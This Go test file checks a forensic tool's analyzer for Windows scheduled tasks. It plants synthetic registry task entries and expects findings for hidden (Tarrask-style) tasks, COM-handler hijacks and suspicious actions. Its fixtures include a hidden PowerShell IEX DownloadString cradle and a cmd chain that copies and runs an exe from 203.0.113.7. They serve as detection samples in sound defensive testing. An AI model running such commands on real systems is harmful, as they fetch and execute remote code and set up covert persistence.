package tasks

import (
	"fmt"
	"strings"
	"testing"

	"github.com/hivescan/hivescan/analyzers/analysistest"
	"github.com/hivescan/hivescan/hive/hivetest"
	"github.com/hivescan/hivescan/internal/samples"
	"github.com/hivescan/hivescan/report"
)

const cache = `Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache`

// sd is a minimal self-relative security descriptor (revision 1, DACL
// present), as the Tree entries of registered tasks carry.
var sd = []byte{1, 0, 0x04, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0}

// task is a task planted in a SOFTWARE hive the way Task Scheduler
// registers one; the fields change it.
type task struct {
	path, id string
	actions  []byte
	noSD     bool
	sd       []byte // when set, replaces sd
	index    uint32
	noTree   bool
	noTasks  bool
}

func (tk task) plant(sw *hivetest.Key) {
	if !tk.noTree {
		vals := []hivetest.Value{hivetest.SZ("Id", tk.id), hivetest.DWORD("Index", tk.index)}
		switch {
		case tk.sd != nil:
			vals = append(vals, hivetest.Binary("SD", tk.sd))
		case !tk.noSD:
			vals = append(vals, hivetest.Binary("SD", sd))
		}
		samples.Set(sw, cache+`\Tree`+tk.path, vals...)
	}
	if !tk.noTasks {
		samples.Set(sw, cache+`\Tasks\`+tk.id,
			hivetest.SZ("Path", tk.path), hivetest.SZ("Author", "Microsoft Corporation"),
			hivetest.Binary("Actions", tk.actions),
			hivetest.Binary("DynamicInfo", mustHex("03000000d50ed633c75ad701d1c5cfe2495dd7010000000000000000eaea27e3495dd701")))
		samples.Set(sw, cache+`\Plain\`+tk.id)
	}
}

func exec(command, args string) []byte {
	return blob(w16(3), "Author", KindExec, "", command, args, "", w16(0))
}

func comHandler(clsid []byte, data string) []byte {
	return blob(w16(3), "LocalSystem", KindComHandler, "", clsid, data)
}

// clsidBytes is {11111111-2222-3333-4455-66778899AABB} as stored.
var clsidBytes = []byte{0x11, 0x11, 0x11, 0x11, 0x22, 0x22, 0x33, 0x33, 0x44, 0x55, 0x66, 0x77, 0x88, 0x99, 0xaa, 0xbb}

const clsid = "{11111111-2222-3333-4455-66778899AABB}"

func TestTasks(t *testing.T) {
	defrag := task{path: `\Microsoft\Windows\Defrag\ScheduledDefrag`, id: "{1B2A8B4C-0C83-4C5A-9D1F-6C1A1E6F4B10}", index: 3,
		actions: exec(`%windir%\system32\defrag.exe`, `-c -h -o -$`)}
	smb1 := task{path: `\Microsoft\Windows\SMB\UninstallSMB1ClientTask`, id: "{2B2A8B4C-0C83-4C5A-9D1F-6C1A1E6F4B10}", index: 3,
		actions: exec(`%windir%\System32\WindowsPowerShell\v1.0\powershell.exe`, `-ExecutionPolicy Unrestricted -NonInteractive -NoProfile -WindowStyle Hidden "& %windir%\system32\WindowsPowerShell\v1.0\Modules\SmbShare\DisableUnusedSmb1.ps1 -Scenario Client"`)}
	proactive := task{path: `\Microsoft\Windows\Chkdsk\ProactiveScan`, id: "{3B2A8B4C-0C83-4C5A-9D1F-6C1A1E6F4B10}", index: 3, actions: proactiveScan}
	windows := func(sw *hivetest.Key) {
		defrag.plant(sw)
		smb1.plant(sw)
		proactive.plant(sw)
		samples.Set(sw, `Classes\CLSID\{CF4270F5-2E43-4468-83B3-A8C45BB33EA1}\InprocServer32`, hivetest.ExpandSZ("", `%SystemRoot%\System32\chkdsk.dll`))
		samples.Set(sw, cache+`\Tree\Microsoft\Windows\Defrag`, hivetest.Binary("SD", sd))
	}
	evil := `-w hidden -ep bypass -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')`
	tests := []struct {
		name  string
		plant func(sw *hivetest.Key)
		want  report.Severity
		rule  string // rule of the most severe finding; "" expects none
		text  string // in that finding's title or detail
	}{
		{"windows defaults are quiet", windows, report.Info, "", ""},
		{"hidden task (no SD)", func(sw *hivetest.Key) {
			windows(sw)
			task{path: `\WinUpdate`, id: "{AAAAAAAA-0000-0000-0000-000000000001}", index: 3, noSD: true,
				actions: exec(`C:\Windows\System32\cmd.exe`, `/c start C:\ProgramData\u.exe`)}.plant(sw)
		}, report.High, "tasks.hidden", "Tarrask"},
		{"hidden windows task (empty SD)", func(sw *hivetest.Key) {
			windows(sw)
			task{path: `\Microsoft\Windows\Defrag\Helper`, id: "{AAAAAAAA-0000-0000-0000-000000000002}", index: 3, sd: []byte{},
				actions: exec(`%windir%\system32\defrag.exe`, `-c`)}.plant(sw)
		}, report.High, "tasks.hidden", "empty SD"},
		{"stripped SD", func(sw *hivetest.Key) {
			task{path: `\X`, id: "{AAAAAAAA-0000-0000-0000-000000000003}", index: 3, sd: []byte{0, 0, 0, 0},
				actions: exec(`C:\Program Files\X\x.exe`, ``)}.plant(sw)
		}, report.High, "tasks.hidden", "not a security descriptor"},
		{"malicious powershell", func(sw *hivetest.Key) {
			windows(sw)
			task{path: `\Updater`, id: "{AAAAAAAA-0000-0000-0000-000000000004}", index: 3,
				actions: exec(`powershell.exe`, evil)}.plant(sw)
		}, report.Critical, "tasks.exec", "DownloadString"},
		{"hidden powershell in a windows task name", func(sw *hivetest.Key) {
			task{path: `\Microsoft\Windows\SMB\UninstallSMB1ClientTask`, id: "{AAAAAAAA-0000-0000-0000-000000000005}", index: 3,
				actions: exec(`%windir%\System32\WindowsPowerShell\v1.0\powershell.exe`, `-NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File C:\Windows\System32\WindowsPowerShell\v1.0\s.ps1`)}.plant(sw)
		}, report.High, "tasks.exec", "hide its window"},
		{"cmd chain", func(sw *hivetest.Key) {
			task{path: `\Sync`, id: "{AAAAAAAA-0000-0000-0000-000000000006}", index: 3,
				actions: exec(`cmd.exe`, `/c copy \\203.0.113.7\s\a.exe %TEMP%\a.exe & %TEMP%\a.exe`)}.plant(sw)
		}, report.High, "tasks.exec", ""},
		{"cmd /c in a task outside Microsoft's folder", func(sw *hivetest.Key) {
			task{path: `\Backup`, id: "{AAAAAAAA-0000-0000-0000-000000000009}", index: 3,
				actions: exec(`%windir%\system32\cmd.exe`, `/c C:\Scripts\backup.cmd`)}.plant(sw)
		}, report.Medium, "tasks.exec", "do not start cmd.exe"},
		{"program in ProgramData", func(sw *hivetest.Key) {
			task{path: `\Updater`, id: "{AAAAAAAA-0000-0000-0000-000000000007}", index: 3,
				actions: exec(`C:\ProgramData\upd\upd.exe`, ``)}.plant(sw)
		}, report.Medium, "tasks.exec", "outside the Windows"},
		{"non-windows program under a windows task name", func(sw *hivetest.Key) {
			task{path: `\Microsoft\Windows\Maintenance\Cleanup`, id: "{AAAAAAAA-0000-0000-0000-000000000008}", index: 3,
				actions: exec(`C:\Tools\clean.exe`, ``)}.plant(sw)
		}, report.Medium, "tasks.exec", "blend in"},
		{"google update, adobe and edge are info", func(sw *hivetest.Key) {
			windows(sw)
			task{path: `\GoogleUpdateTaskMachineCore`, id: "{BBBBBBBB-0000-0000-0000-000000000001}", index: 3,
				actions: exec(`C:\Program Files (x86)\Google\Update\GoogleUpdate.exe`, `/c`)}.plant(sw)
			task{path: `\Adobe Acrobat Update Task`, id: "{BBBBBBBB-0000-0000-0000-000000000002}", index: 3,
				actions: exec(`C:\Program Files (x86)\Common Files\Adobe\ARM\1.0\AdobeARM.exe`, ``)}.plant(sw)
			task{path: `\MicrosoftEdgeUpdateTaskMachineUA`, id: "{BBBBBBBB-0000-0000-0000-000000000003}", index: 3,
				actions: exec(`C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe`, `/ua /installsource scheduler`)}.plant(sw)
		}, report.Info, "tasks.exec", "installed products"},
		{"onedrive per user is at most low", func(sw *hivetest.Key) {
			task{path: `\OneDrive Standalone Update Task-S-1-5-21-1-2-3-1001`, id: "{BBBBBBBB-0000-0000-0000-000000000004}", index: 3,
				actions: exec(`%localappdata%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe`, `/reporting`)}.plant(sw)
		}, report.Low, "tasks.exec", "OneDriveStandaloneUpdater"},
		{"tree entry without tasks entry", func(sw *hivetest.Key) {
			task{path: `\Gone`, id: "{CCCCCCCC-0000-0000-0000-000000000001}", index: 3, noTasks: true}.plant(sw)
		}, report.Medium, "tasks.orphan-tree", "deleted or edited by hand"},
		{"tasks entry without tree entry", func(sw *hivetest.Key) {
			task{path: `\Microsoft\Windows\Defrag\ScheduledDefrag`, id: "{CCCCCCCC-0000-0000-0000-000000000002}", index: 3, noTree: true,
				actions: exec(`%windir%\system32\defrag.exe`, `-c -h -o -$`)}.plant(sw)
		}, report.Medium, "tasks.orphan-task", "defrag.exe"},
		{"trigger list entry without tasks entry", func(sw *hivetest.Key) {
			samples.Set(sw, cache+`\Logon\{CCCCCCCC-0000-0000-0000-000000000003}`)
		}, report.Low, "tasks.orphan-trigger", "Logon"},
		{"index zero", func(sw *hivetest.Key) {
			task{path: `\Microsoft\Windows\Defrag\ScheduledDefrag`, id: "{CCCCCCCC-0000-0000-0000-000000000004}", index: 0,
				actions: exec(`%windir%\system32\defrag.exe`, `-c -h -o -$`)}.plant(sw)
		}, report.Medium, "tasks.index", "Index 0"},
		{"index removed", func(sw *hivetest.Key) {
			task{path: `\Microsoft\Windows\Defrag\ScheduledDefrag`, id: "{CCCCCCCC-0000-0000-0000-000000000005}", index: 3,
				actions: exec(`%windir%\system32\defrag.exe`, `-c -h -o -$`)}.plant(sw)
			samples.At(sw, cache+`\Tree\Microsoft\Windows\Defrag\ScheduledDefrag`).Values = []hivetest.Value{
				hivetest.SZ("Id", "{CCCCCCCC-0000-0000-0000-000000000005}"), hivetest.Binary("SD", sd)}
		}, report.Low, "tasks.index", "no Index"},
		{"com handler of a windows task hijacked", func(sw *hivetest.Key) {
			task{path: `\Microsoft\Windows\Chkdsk\ProactiveScan`, id: "{DDDDDDDD-0000-0000-0000-000000000001}", index: 3, actions: proactiveScan}.plant(sw)
			samples.Set(sw, `Classes\CLSID\{CF4270F5-2E43-4468-83B3-A8C45BB33EA1}\InprocServer32`, hivetest.SZ("", `C:\Users\Public\chk.dll`))
		}, report.High, "tasks.comhandler", "COM hijack"},
		{"third-party com handler in Program Files", func(sw *hivetest.Key) {
			task{path: `\Vendor\Agent`, id: "{DDDDDDDD-0000-0000-0000-000000000002}", index: 3, actions: comHandler(clsidBytes, "")}.plant(sw)
			samples.Set(sw, `Wow6432Node\Classes\CLSID\`+clsid+`\InprocServer32`, hivetest.SZ("", `C:\Program Files (x86)\Vendor\agent.dll`))
		}, report.Info, "tasks.comhandler", "agent.dll"},
		{"com handler in ProgramData", func(sw *hivetest.Key) {
			task{path: `\Vendor\Agent`, id: "{DDDDDDDD-0000-0000-0000-000000000003}", index: 3, actions: comHandler(clsidBytes, "")}.plant(sw)
			samples.Set(sw, `Classes\CLSID\`+clsid+`\InprocServer32`, hivetest.SZ("", `C:\ProgramData\v\agent.dll`))
		}, report.Medium, "tasks.comhandler", "agent.dll"},
		{"unregistered com handler", func(sw *hivetest.Key) {
			task{path: `\Vendor\Agent`, id: "{DDDDDDDD-0000-0000-0000-000000000004}", index: 3, actions: comHandler(clsidBytes, "x")}.plant(sw)
		}, report.Low, "tasks.comhandler", "not registered"},
		{"e-mail action", func(sw *hivetest.Key) {
			task{path: `\Mailer`, id: "{DDDDDDDD-0000-0000-0000-000000000005}", index: 3,
				actions: blob(w16(1), KindSendEmail, "", "a@x", "b@y", "", "", "", "smtp.x", "s", "body", w32(0), w32(0))}.plant(sw)
		}, report.Low, "tasks.legacy-action", "b@y"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			sw := samples.Software()
			tc.plant(sw.Root)
			fs := analysistest.Run(t, Tasks, analysistest.HostOf(t, "PC", samples.System("PC", [4]uint32{1, 1, 1, 0}, 1), sw))
			if tc.rule == "" {
				for _, f := range fs {
					t.Errorf("unexpected %s %s: %s", f.Severity, f.Rule, f.Title)
				}
				return
			}
			if got := analysistest.MaxSeverity(fs); got != tc.want {
				t.Errorf("max severity %s, want %s; findings:\n%s", got, tc.want, list(fs))
			}
			for _, f := range fs {
				if f.Severity == tc.want && f.Rule == tc.rule && strings.Contains(f.Title+" "+f.Detail, tc.text) {
					if f.Analyzer != "tasks" || !strings.HasPrefix(f.Rule, "tasks.") || len(f.Attack) == 0 {
						t.Errorf("finding %+v lacks analyzer, rule or ATT&CK ids", f)
					}
					return
				}
			}
			t.Errorf("no %s finding %s mentioning %q; findings:\n%s", tc.want, tc.rule, tc.text, list(fs))
		})
	}
}

func list(fs []report.Finding) string {
	var b strings.Builder
	for _, f := range fs {
		b.WriteString("  " + f.Severity.String() + " " + f.Rule + ": " + f.Title + "\n     " + f.Detail + "\n")
	}
	return b.String()
}

func TestTasksDamagedActionsIsAProblem(t *testing.T) {
	sw := samples.Software()
	task{path: `\Updater`, id: "{EEEEEEEE-0000-0000-0000-000000000001}", index: 3,
		actions: append(exec(`C:\ProgramData\upd\upd.exe`, ``), 0x12, 0x34, 0xff)}.plant(sw.Root)
	res := analysistest.RunResult(t, Tasks, analysistest.HostOf(t, "PC", sw))
	if len(res.Runs) != 1 || res.Runs[0].Status == report.Ran || !strings.Contains(res.Runs[0].Reason, "Actions value") {
		t.Fatalf("runs %+v, want a failed run naming the Actions value", res.Runs)
	}
	found := false
	for _, f := range res.Findings {
		found = found || f.Rule == "tasks.exec" && strings.Contains(f.Detail, "upd.exe")
	}
	if !found {
		t.Errorf("the action read before the damage was not judged: %s", list(res.Findings))
	}
}

func TestTasksDifferencingHiveIsNotJudgedForWhatItLacks(t *testing.T) {
	sw := samples.Software()
	sw.Opts.Minor = 6
	task{path: `\Gone`, id: "{EEEEEEEE-0000-0000-0000-000000000002}", index: 0, noSD: true, noTasks: true}.plant(sw.Root)
	samples.Set(sw.Root, cache+`\Tasks\{EEEEEEEE-0000-0000-0000-000000000003}`, hivetest.Binary("DynamicInfo", make([]byte, 36)))
	if fs := analysistest.Run(t, Tasks, analysistest.HostOf(t, "PC", sw)); len(fs) != 0 {
		t.Errorf("findings on a layer hive:\n%s", list(fs))
	}
}

// TestWindows10ExecActionsAreQuiet plants, as tasks in Microsoft's folder,
// the exec actions of a real Windows 10 SOFTWARE hive (every distinct one
// in msuhanov/regf-samples 10-missing_log_entries/after/SOFTWARE.LOG1 but
// OneDrive's, whose task is not in that folder).
func TestWindows10ExecActionsAreQuiet(t *testing.T) {
	actions := [][2]string{
		{`%windir%\System32\WindowsActionDialog.exe`, ``},
		{`%windir%\system32\appidcertstorecheck.exe`, ``},
		{`%SystemRoot%\System32\dsregcmd.exe`, ``},
		{`%systemroot%\system32\usoclient.exe`, `StartScan`},
		{`%windir%\system32\dmclient.exe`, `utcwnf`},
		{`%windir%\system32\rundll32.exe`, `%windir%\system32\AppxDeploymentClient.dll,AppxPreStageCleanupRunTask`},
		{`BthUdTask.exe`, `$(Arg0)`},
		{`C:\Program Files\Windows Defender\MpCmdRun.exe`, `-IdleTask -TaskName WdCacheMaintenance`},
		{`%windir%\system32\disksnapshot.exe`, `-z`},
	}
	sw := samples.Software()
	for i, a := range actions {
		task{path: fmt.Sprintf(`\Microsoft\Windows\Task%d\Run`, i), id: fmt.Sprintf("{FFFFFFFF-0000-0000-0000-%012d}", i), index: 3,
			actions: exec(a[0], a[1])}.plant(sw.Root)
	}
	if fs := analysistest.Run(t, Tasks, analysistest.HostOf(t, "PC", sw)); len(fs) != 0 {
		t.Errorf("findings on Windows' own actions:\n%s", list(fs))
	}
}

func TestTasksDamagedTreeReportsNoOrphans(t *testing.T) {
	sw := samples.Software()
	task{path: `\Microsoft\Windows\Defrag\ScheduledDefrag`, id: "{EEEEEEEE-0000-0000-0000-000000000004}", index: 3, noTree: true,
		actions: exec(`%windir%\system32\defrag.exe`, `-c -h -o -$`)}.plant(sw.Root)
	samples.Set(sw.Root, cache+`\Tree\Microsoft\Windows`, hivetest.Binary("SD", sd))
	sw.After = func(h *hivetest.Hive) error { return h.AddCycle(cache + `\Tree\Microsoft`) }
	res := analysistest.RunResult(t, Tasks, analysistest.HostOf(t, "PC", sw))
	if len(res.Runs) != 1 || res.Runs[0].Status == report.Ran {
		t.Errorf("runs %+v, want the damaged Tree reported", res.Runs)
	}
	for _, f := range res.Findings {
		if strings.HasPrefix(f.Rule, "tasks.orphan") {
			t.Errorf("orphan reported under a damaged Tree: %s", f.Title)
		}
	}
}
